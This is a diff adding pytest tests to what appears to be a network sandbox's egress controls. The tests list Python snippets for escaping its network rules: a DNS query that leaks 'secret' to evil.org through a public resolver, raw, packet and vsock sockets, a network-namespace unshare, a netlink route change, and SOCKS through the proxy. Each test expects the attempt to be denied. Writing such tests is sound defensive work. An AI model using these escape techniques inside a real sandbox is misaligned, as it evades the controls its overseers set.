@@ -160,6 +160,53 @@ def test_a_run_that_ends_ends_its_connections(world):
     assert connection["decision"] == "allow" and connection["received"] == 8
 
 
+# What code might try instead of asking; each must fail at once, and nothing of it may leave.
+OTHER_WAYS = {
+    "UDP to a port that no rule names": ("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('8.8.8.8', 443))\n"
+                                         "s.send(b'quic')\ns.recv(1)", "ConnectionRefusedError"),
+    "UDP by IPv6": ("s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\ns.connect(('2001:4860:4860::8888', 443))\ns.send(b'x')\n"
+                    "s.recv(1)", "ConnectionRefusedError"),
+    "a question to somebody else's name server": (
+        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(4)\n"
+        "s.sendto(b'\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\3org\\0\\0\\20\\0\\1', ('8.8.8.8', 53))\n"
+        "print('code', s.recv(512)[3] & 15)", "code 5"),
+    "a raw socket": ("socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)", "OSError"),
+    "a raw IPv6 socket": ("socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58)", "OSError"),
+    "an echo request": ("socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)", "OSError"),
+    "a packet socket": ("socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)", "OSError PermissionError"),
+    "SCTP": ("socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, 132)", "PermissionError OSError"),
+    "MPTCP": ("s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)\ns.settimeout(4)\ns.connect(('8.8.8.8', 22))",
+              "OSError ConnectionRefusedError"),
+    "vsock": ("socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)", "OSError PermissionError"),
+    "an abstract socket of the host": ("socket.socket(socket.AF_UNIX).connect('\\0glovebox-test-of-abstract')", "ConnectionRefusedError"),
+    "the socket of the daemon": ("socket.socket(socket.AF_UNIX).connect('/run/glovebox/glovebox.sock')", "FileNotFoundError"),
+    "binding a port of the proxy": ("s = socket.socket()\ns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)\ns.bind(('127.0.0.1', 3128))",
+                                    "OSError"),
+    "binding the port of names": ("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(('127.0.0.1', 53))", "PermissionError OSError"),
+    "TCP to a port that no rule names": ("socket.create_connection(('93.184.216.34', 22), 4)", "ConnectionRefusedError"),
+    "TCP to the host itself": ("socket.create_connection(('93.184.216.1', 22), 4)", "ConnectionRefusedError"),
+    "SOCKS": ("s = socket.create_connection(('127.0.0.1', 3128), 4)\ns.sendall(b'\\5\\1\\0')\nprint(s.recv(12))", "b'HTTP/1.1 400"),
+    "TLS by its number": ("s = socket.create_connection(('93.184.216.34', 443), 4)\nprint(s.recv(1))", "b'\\x15'"),
+    "a new namespace": ("import os, ctypes\nprint(ctypes.CDLL(None, use_errno=True).unshare(0x40000000))", "-1"),
+    "a route of one's own": ("s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\nimport struct\n"
+                             "s.send(struct.pack('=IHHIIBBBBBBBBI', 28, 24, 0x405, 1, 0, 2, 0, 0, 0, 254, 3, 0, 1, 0))\n"
+                             "print(struct.unpack('=i', s.recv(4096)[16:20])[0])", "-1"),
+}
+
+
+@pytest.mark.parametrize("way", OTHER_WAYS)
+def test_other_ways(world, way):
+    code, expected = OTHER_WAYS[way]
+    result = world.run("import socket, time\nbegin = time.monotonic()\ntry:\n"
+                       + "".join(f"    {line}\n" for line in code.split("\n"))
+                       + "except OSError as e: print(type(e).__name__)\nprint('slow' if time.monotonic() - begin > 2 else 'at once')",
+                       mode="script")
+    said = result["stdout"].splitlines()
+    assert len(said) == 2 and said[1] == "at once", result
+    assert said[0] in expected.split(" ") or said[0].startswith(expected), said
+    assert all(connection["decision"] == "deny" for connection in result["network"]), result["network"]
+
+
 def egress_of(world):
     children = pathlib.Path(f"/proc/{world.process.pid}/task/{world.process.pid}/children").read_text().split()
     [pid] = [int(pid) for pid in children if pathlib.Path(f"/proc/{pid}/comm").read_text().startswith("glovebox-egress")]
